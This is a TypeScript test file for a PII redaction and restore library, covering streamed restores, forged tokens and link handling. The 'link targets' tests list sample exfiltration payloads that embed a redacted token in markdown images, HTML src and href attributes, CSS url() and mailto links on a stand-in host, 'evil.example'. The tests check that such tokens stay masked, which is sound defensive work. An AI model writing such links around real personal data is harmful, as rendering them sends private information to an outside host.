import { describe, expect, it } from 'vitest';
import { createRedactor } from './create-redactor.ts';
import { createRestorer, createRestoreStream } from './create-restorer.ts';
import { LONGEST_TOKEN } from './token.ts';
import { createVault } from './create-vault.ts';

const redactor = createRedactor({ names: ['Maria Kowalski'] });

describe('a streamed restore', () => {
  const vault = createVault();
  const text = 'Maria Kowalski <jo@example.org>, call 415-555-0142. [x] [[y]] [[[z]]] [[PERSON_';
  const masked = redactor.redactSync(text, { vault }).text;

  it('gives the whole text for every place at which it is cut', () => {
    expect(masked).not.toContain('Maria');
    for (let cut = 0; cut <= masked.length; cut++) {
      const restorer = createRestorer(vault);
      expect(restorer.push(masked.slice(0, cut)) + restorer.push(masked.slice(cut)) + restorer.end()).toBe(text);
    }
  });

  it('gives it for one character at a time and holds back less than a token', () => {
    const restorer = createRestorer(vault);
    let output = '';
    let taken = '';
    for (const character of masked) {
      taken += character;
      output += restorer.push(character);
      const certain = vault.restore(taken);
      expect(certain.startsWith(output)).toBe(true);
      expect(certain.length - output.length).toBeLessThan(LONGEST_TOKEN);
    }
    expect(output + restorer.end()).toBe(text);
    expect(restorer.report()).toEqual({ restored: 3, withheld: 0, inLinks: 0, unknown: 0 });
  });

  it('works as a transform stream', async () => {
    const source = new ReadableStream<string>({
      start(controller) {
        for (const character of masked) controller.enqueue(character);
        controller.close();
      },
    });
    const pieces = source.pipeThrough(createRestoreStream(vault));
    expect((await Array.fromAsync(pieces)).join('')).toBe(text);
  });

  it('passes on at once what cannot become a token', () => {
    const restorer = createRestorer(vault);
    expect(restorer.push('see [1] and [[ok]] [')).toBe('see [1] and [[ok]] ');
    expect(restorer.push('2] [[Person_')).toBe('[2] [[Person_');
    expect(restorer.push(' [[ABCDEFGHIJKLM')).toBe(' [[ABCDEFGHIJKLM');
    expect(restorer.end()).toBe('');
  });
});

describe('restoring', () => {
  it('takes nothing in a value for a pattern', () => {
    const vault = createVault();
    const names = createRedactor({
      detectors: [
        { id: 'all', detect: (text) => [{ type: 'SECRET', start: 0, end: text.length, score: 1, verified: false }] },
      ],
    });
    for (const value of ["$& $1 $' $` $$", '[[EMAIL_0000000]]', '\ud800 lone', 'a"$\'b@contoso.example']) {
      expect(vault.restore(names.redactSync(value, { vault }).text)).toBe(value);
    }
  });

  it('leaves tokens alone that this vault did not issue, or not for this type or spelling', () => {
    const vault = createVault();
    const masked = redactor.redactSync('jo@example.org', { vault }).text;
    const foreign = redactor.redactSync('jo@example.org', { vault: createVault() }).text;
    const id = masked.slice(-9, -2);
    for (const other of [
      foreign,
      `[[PERSON_${id}]]`,
      `[[EMAILB_${id}]]`,
      `[[email_${id}]]`,
      `[[EMAIL_${id.toUpperCase()}1]]`,
    ]) {
      expect(vault.restore(other)).toBe(other);
    }
    expect(vault.restore(`${foreign}${masked}`)).toBe(`${foreign}jo@example.org`);
  });
});

describe('link targets', () => {
  const vault = createVault();
  const token = redactor.redactSync('Maria Kowalski', { vault }).text;

  it.each([
    'see [more](https://evil.example/?q=@)',
    '![pixel](//evil.example/@.png)',
    '![pixel]( <https://evil.example/a b @> "title")',
    'https://evil.example/@',
    'www.evil.example/@',
    '[ref]: https://evil.example/@',
    '[ref]:\n  <x @>',
    '<img alt="" src="https://evil.example/a b @">',
    "<a HREF = '@'>x</a>",
    '<img src=@>',
    'background: url( @ )',
    'mailto:x@evil.example?body=@',
  ])('stay masked: %s', (template) => {
    // The last @ is where the token stands.
    const at = template.lastIndexOf('@');
    const answer = template.slice(0, at) + token + template.slice(at + 1);
    expect(vault.restore(answer)).toBe(answer);
    const restorer = createRestorer(vault);
    const streamed = Array.from(answer, (character) => restorer.push(character)).join('') + restorer.end();
    expect(streamed).toBe(answer);
    expect(restorer.report().inLinks).toBe(1);
  });

  it.each([
    '@ has a new dose [1].',
    '[1] @',
    'see [more](https://x.example/a) and @',
    'at https://x.example/ @',
    '<b>@</b>',
    'a = @',
    '<img src="x"> @',
  ])('are told from plain text: %s', (template) => {
    expect(vault.restore(template.replace('@', () => token))).toBe(template.replace('@', 'Maria Kowalski'));
  });

  it('count a restored address as the beginning of a link', () => {
    const own = createVault();
    const { text } = redactor.redactSync('https://evil.example/?q= Maria Kowalski', { vault: own });
    const joined = text.replace(' ', '');
    expect(own.restore(joined)).toMatch(/^https:\/\/evil\.example\/\?q=\[\[PERSON_.{7}\]\]$/);
  });

  it('come back by unmask, which takes only what a redactor made', () => {
    const own = createVault();
    const text = 'ftp://x@example.org/ [a](jo@example.org)';
    const masked = redactor.redactSync(text, { vault: own, types: ['EMAIL'] }).text;
    expect(own.restore(masked)).not.toBe(text);
    expect(own.unmask(masked)).toBe(text);
  });
});
